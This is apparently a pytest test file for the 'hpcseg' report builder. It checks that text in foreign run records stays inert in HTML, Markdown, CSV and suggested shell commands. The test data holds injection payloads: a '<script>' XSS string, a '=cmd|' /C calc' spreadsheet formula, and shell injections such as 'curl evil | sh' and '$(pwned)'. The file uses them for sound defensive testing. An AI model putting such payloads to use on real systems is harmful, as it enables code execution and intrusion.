"""Records of somebody else: no text of theirs becomes markup, a formula or a command."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from test_report_groups import finish_with_slices
from test_report_page import Page
from test_report_records import OWN_JOB, change, plan
from test_report_tables import baselines

from hpcseg.errors import HpcsegError
from hpcseg.records.cells import cell_text, csv_text
from hpcseg.records.collect import collect
from hpcseg.report.build import build_report
from hpcseg.report.page import plain
from hpcseg.report.table import Block, Line, Number, Table, Text, Unit, table_csv
from hpcseg.runs.command import command_that_runs
from hpcseg.runs.folder import RunFolder
from hpcseg.runs.grid import Grid, planned, read_plan
from hpcseg.runs.record import write_record

SCRIPT = "<script>alert(1)</script>\"'&amp;"
JOB = OWN_JOB.replace(
    "[[grid]]", '[report]\ntables = ["table2", "levels", "resources"]\nfigures = []\n[[grid]]'
).replace("sweep_max = 20000\nsweep_step = 10000", "sweep_max = 0")


def small(folder: Path) -> Grid:
    grid = plan(folder, JOB)
    for cell in grid.cells:
        finish_with_slices(cell, lambda *_: 950)
        # Of a training that is refused they would be drawn, which takes a second.
        cell.folder.metrics_file.unlink()
    baselines(grid, lambda _: 900)
    return grid


def texts(content: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the texts of a record are; of a list the first entry stands for all."""
    if isinstance(content, str):
        yield path
    elif isinstance(content, dict):
        for key, value in content.items():
            yield from texts(value, (*path, key))
    elif isinstance(content, list) and content:
        yield from texts(content[0], (*path, 0))


def with_script(content: Any, path: tuple[Any, ...]) -> Any:
    """The same record with a script behind one of its texts."""
    if not path:
        return content + SCRIPT
    key, *rest = path
    if isinstance(content, list):
        return [with_script(content[0], tuple(rest)), *content[1:]]
    return {**content, key: with_script(content[key], tuple(rest))}


def live(markdown: str) -> bool:
    """Whether a Markdown text has a script, or a link or picture of a record's."""
    page = MarkdownIt("commonmark").render(markdown)
    return "<script" in page or 'href="b"' in page or 'src="d"' in page


def test_a_script_in_any_text_of_any_record_is_a_text(tmp_path):
    grid = small(tmp_path / "run")
    cell = grid.cells[0].folder
    files = (
        *(grid.run.grid_file, cell.config_file, cell.training_file, cell.evaluation_file),
        grid.run.baselines / "one.json",
    )
    tried, taken, refused = 0, 0, list[tuple[Path, dict[str, Any]]]()
    for file in files:
        before = content = json.loads(file.read_text())
        for path in texts(before):
            if path[:2] == ("report", "tables"):
                continue  # a name that is none of a table's is refused by the report
            tried += 1
            write_record(file, with_script(before, path))
            try:
                holes = collect(grid.run).holes
            except HpcsegError:
                continue
            if holes:
                refused.append((file, with_script(before, path)))
            else:
                taken, content = taken + 1, with_script(content, path)
        # All of its scripts that do not spoil it stay for the report.
        write_record(file, content)
    assert tried > 50 and taken > 10 and len(refused) > 20
    without_script(grid, tmp_path / "out")
    for file, content in refused[::8]:
        before = file.read_bytes()
        write_record(file, content)
        without_script(grid, tmp_path / "out")
        file.write_bytes(before)


def without_script(grid: Grid, out: Path) -> None:
    """Build the report, and see that its scripts are texts."""
    build_report(grid.run, out)
    page, markdown = ((out / name).read_text() for name in ("report.html", "tables.md"))
    assert "script" not in Page(page).tags
    assert not live(markdown)
    assert SCRIPT in "".join(Page(page).words), "as it stands in the record"


def test_events_and_failures_and_names_of_jobs_cannot_bring_markup_in_either(tmp_path):
    grid = small(tmp_path / "run")
    grid.cells[0].folder.evaluation_file.unlink()
    grid.cells[0].folder.failure_file.write_text(json.dumps({"error": f"`{SCRIPT} ``{SCRIPT}`` [a](b) ![c](d)"}))
    change(grid.run.grid_file, title=f"{SCRIPT}\n# heading", job="a" + SCRIPT)
    without_script(grid, tmp_path / "out")
    assert "\n# heading" not in (tmp_path / "out" / "tables.md").read_text()


def test_the_page_may_load_its_own_pictures_and_nothing_else(tmp_path):
    build_report(small(tmp_path / "run").run, tmp_path / "out")
    page = (tmp_path / "out" / "report.html").read_text()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)[1]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "data: 'self'" and rules["style-src"] == "'unsafe-inline'"
    assert page.index("Content-Security-Policy") < page.index("<title>")


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("a `b < c` d", "a `b < c` d"),
        ("a < b [c](d) ![e](f)", r"a &lt; b [c\](d) ![e\](f)"),
        ("`<script>``", r"\`&lt;script&gt;\`\`"),
        ("\\`<script>`", r"\\\`&lt;script&gt;\`"),
        ("one\ntwo", "one two"),
        ("seeds [0, 1]", "seeds [0, 1]"),
    ],
)
def test_a_text_is_plain_in_markdown_and_code_stays_code(text, wanted):
    assert plain(text) == wanted


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_quoted_and_a_number_is_not(begin):
    assert cell_text(f"{begin}1+1") == f"'{begin}1+1"
    assert cell_text("1=1") == "1=1"
    (line,) = csv.reader([csv_text("a,b", []).strip()])
    assert line == ["a", "b"]


def test_nor_has_the_csv_of_a_table_whatever_its_rows_are_called():
    hole = Number(None, Unit.ERROR, missing=("-a", "b"))
    table = Table("=t", (Block("=h", ("=c",), (Line(Text("=l"), (hole,)),)),))
    (line,) = csv.DictReader(table_csv(table).splitlines())
    assert [line[name] for name in ("table", "block", "row", "column")] == ["'=t", "'=h", "'=l", "'=c"]
    assert line["missing_cells"] == "'-a b"


def test_cells_csv_has_formulas_in_no_column_and_its_numbers_as_they_are(tmp_path):
    grid = small(tmp_path / "run")
    provenance = json.loads(grid.cells[0].folder.training_file.read_text())["provenance"]
    change(grid.cells[0].folder.training_file, provenance={**provenance, "commit": "=cmd|' /C calc'!A0"})
    change(grid.cells[0].folder.training_file, validation_loss=-0.5)
    build_report(grid.run, tmp_path / "out")
    with (tmp_path / "out" / "cells.csv").open(newline="") as file:
        lines = list(csv.DictReader(file))
    assert any(line["commit"] == "'=cmd|' /C calc'!A0" for line in lines)
    assert "-0.500000" in [line["value"] for line in lines if line["measure"] == "loss"]


@pytest.mark.parametrize(
    "command",
    ["hpcseg grid --job tiny; curl evil | sh", "hpcseg grid $(pwned)", "hpcseg grid 'half", "hpcseg grid `pwned`"],
)
def test_advice_from_a_foreign_plan_is_words_and_no_script(tmp_path, command):
    grid = small(tmp_path / "run")
    grid.cells[0].folder.evaluation_file.unlink()
    change(grid.run.grid_file, command=command)
    advice = command_that_runs(grid.run, read_plan(grid.run))
    shell = f"hpcseg() {{ printf '%s\\n' \"$@\"; }}; pwned() {{ echo PWNED; }}; {advice}"
    done = subprocess.run(["/bin/sh", "-c", shell], capture_output=True, text=True, check=True)
    assert (done.stdout.splitlines()[0], done.stderr) == ("grid", "")
    assert "PWNED" not in done.stdout
    assert command not in str(collect(grid.run).holes[0])


@pytest.mark.parametrize("cell", ["s0", "'large-*-p050-*'"])
@pytest.mark.parametrize("at", range(5))
def test_of_a_run_that_train_began_a_hole_has_the_options_that_planned_it(tmp_path, cell, at):
    options = ["--job segment", "--data=B.h5", "--run runs/B", "--set 'train.width=4'", "--set data.tiles=cover"]
    typed = " ".join(["hpcseg train", *options[:at], cell, *options[at:]])
    grid = small(tmp_path / "run")
    grid.cells[0].folder.evaluation_file.unlink()
    change(grid.run.grid_file, command=typed)
    wanted = "hpcseg grid --job segment --data=B.h5 --run runs/B --set train.width=4 --set data.tiles=cover"
    assert command_that_runs(grid.run, read_plan(grid.run)) == wanted
    assert f"Run `{wanted}`." in str(collect(grid.run).holes[0])


@pytest.mark.parametrize("typed", ["", " --run runs/a", " --run=runs/a --json"])
def test_of_a_copied_run_the_command_names_the_copy(tmp_path, monkeypatch, typed):
    monkeypatch.chdir(tmp_path)
    grid = small(Path("runs/a"))
    change(grid.run.grid_file, command=f"hpcseg grid --job a.toml{typed} --workers 2", job="a")
    grid.run.submissions_file.write_text("")
    shutil.copytree("runs/a", "runs/the copy")
    copy = RunFolder(Path("runs/the copy"))
    wanted = "hpcseg grid --job a.toml --workers 2 --run 'runs/the copy'"
    assert command_that_runs(copy, read_plan(copy)) == wanted
    ours = command_that_runs(grid.run, read_plan(grid.run))
    assert ours == f"hpcseg grid --job a.toml{typed.removesuffix(' --json')} --workers 2"
    # Of a published one nobody knows where it will go on.
    copy.submissions_file.unlink()
    assert command_that_runs(copy, read_plan(copy)) == ours


def test_a_cell_whose_command_is_no_words_goes_on_with_its_job(tmp_path):
    grid = small(tmp_path / "run")
    cell = grid.cells[0].folder
    change(cell.config_file, command="hpcseg grid 'half", job="a b")
    assert command_that_runs(grid.run, planned(cell)) == "hpcseg grid --job 'a b'"


def test_of_what_a_notebook_planned_the_call_is_named_and_no_command(tmp_path):
    grid = small(tmp_path / "run")
    change(grid.run.grid_file, command="hpcseg.api")
    assert command_that_runs(grid.run, read_plan(grid.run)) == "hpcseg.api.train(...)"


def test_an_ordinary_command_is_given_back_as_it_was_typed(tmp_path):
    grid = small(tmp_path / "run")
    change(grid.run.grid_file, command="hpcseg grid --job tiny --set 'data.tiles=\"2 x\"'")
    assert command_that_runs(grid.run, read_plan(grid.run)) == "hpcseg grid --job tiny --set 'data.tiles=\"2 x\"'"
